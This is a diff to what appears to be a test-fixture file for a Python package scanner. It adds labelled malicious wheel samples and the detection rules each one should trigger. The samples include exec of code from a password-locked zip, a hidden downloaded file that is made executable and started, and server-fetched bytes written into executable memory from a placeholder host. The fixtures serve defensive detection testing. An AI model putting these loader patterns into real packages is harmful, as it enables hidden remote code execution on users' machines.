@@ -7,6 +7,34 @@ const HEAD =
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: a member of a locked archive is run',
+      files: wheel(
+        "import os, zipfile\nexec(zipfile.ZipFile(os.path.join(os.path.dirname(__file__), 'data.zip')).read('core', pwd=b'own'))\n",
+      ),
+      expected: [{ rule: 'code-from-data', file: 'own/__init__.py', line: 2, severity: 'high' }],
+    },
+    {
+      name: 'Python: a data file is loaded as a module',
+      files: wheel(
+        "import importlib.machinery, os\nimportlib.machinery.SourcelessFileLoader('core', os.path.join(os.path.dirname(__file__), 'core.dat')).load_module('core')\n",
+      ),
+      expected: [{ rule: 'code-from-data', file: 'own/__init__.py', line: 2, severity: 'high' }],
+    },
+    {
+      name: 'Python: a hidden file that is fetched and started',
+      files: wheel(
+        "import os, requests, subprocess\ndef init(url):\n    path = os.path.expanduser('~/.cache/.own')\n    open(path, 'wb').write(requests.get(url).content)\n    os.chmod(path, 0o755)\n    subprocess.Popen([path])\n",
+      ),
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 6, severity: 'high' }],
+    },
+    {
+      name: 'Python: what a server gives in memory that may be run',
+      files: wheel(
+        "import ctypes, mmap, urllib.request\ndef load():\n    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n    page.write(urllib.request.urlopen('https://a.weir.test/c').read())\n    return ctypes.CFUNCTYPE(ctypes.c_int)(1)()\n",
+      ),
+      expected: [{ rule: 'machine-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
+    {
       name: 'Python: machine code in memory',
       files: wheel(
         'import ctypes\ndef load(code):\n    at = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)\n    ctypes.windll.kernel32.RtlMoveMemory(at, code, len(code))\n',
@@ -123,6 +151,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: tables out of an archive, and a module of a user',
+      wheel(
+        "import importlib.util, os, zipfile\ndef tables():\n    return zipfile.ZipFile(os.path.join(os.path.dirname(__file__), 'data.zip')).read('tables').split()\ndef load(path):\n    return importlib.util.spec_from_file_location('user', path)\n",
+      ),
+    ),
     quiet('Python: memory that is shared', {
       'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
       'own/__init__.py':
